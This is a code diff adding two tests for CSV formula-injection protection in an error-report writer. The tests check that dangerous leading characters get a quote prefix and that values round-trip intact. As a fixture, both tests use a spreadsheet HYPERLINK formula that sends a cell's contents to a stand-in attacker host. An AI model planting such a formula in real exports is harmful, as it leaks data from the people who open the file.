@@ -191,6 +191,35 @@ describe('error reports', () => {
     ]);
   });
 
+  it('as CSV: puts a quote before a value a spreadsheet would run, which reading the report back takes off; amounts stay as they are', async () => {
+    const formula = '=HYPERLINK("https://evil.example/?"&B3,"Open")';
+    const values = ['A-7', formula, '2024-01-02', 'Net 30', '-5.00', '0', 'Pending', 'USD'];
+    let out = '';
+    const writer = new ErrorReportWriter('csv', HEADER.split(','), (chunk) => (out += chunk));
+    writer.add({ ...refused, values });
+    writer.end();
+    const [, written] = parse(out) as string[][];
+    expect(written?.slice(0, 8)).toEqual(['A-7', `'${formula}`, '2024-01-02', 'Net 30', '-5.00', '0', 'Pending', 'USD']);
+    const read: unknown[] = [];
+    for await (const item of readCsvRows(Readable.from([out]))) read.push(item);
+    expect(read[1]).toEqual({ row: 2, values: [...values, '7', 'Bill Total: -5.00 is negative [import.negative_amount]'] });
+  });
+
+  it('gives a refused row back through its report unchanged: fixed and sent again, it imports with the text it had', async () => {
+    const formula = '=HYPERLINK("https://evil.example/?"&B3,"Open")';
+    const file = `${HEADER}\n1,"${formula.replaceAll('"', '""')}",2024-01-02,Net 30,-5.00,0,Pending,USD\n2,@Acme,2024-01-02,Net 30,-1.00,0,Pending,USD\n`;
+    let report = '';
+    const writer = new ErrorReportWriter('csv', HEADER.split(','), (chunk) => (report += chunk));
+    const first = await run(file);
+    first.rows.forEach((row) => writer.add(row));
+    writer.end();
+    expect(first.report.refused).toBe(2);
+    expect(report).not.toMatch(/(^|,)"?[=@]/m);
+    const corrected = report.replace('-5.00', '5.00').replace('-1.00', '1.00');
+    const { received } = await run(corrected);
+    expect(received.map((receivable) => receivable.customerName)).toEqual([formula, '@Acme']);
+  });
+
   it('as JSON: one entry per refused row', () => {
     let out = '';
     const writer = new ErrorReportWriter('json', HEADER.split(','), (chunk) => (out += chunk));
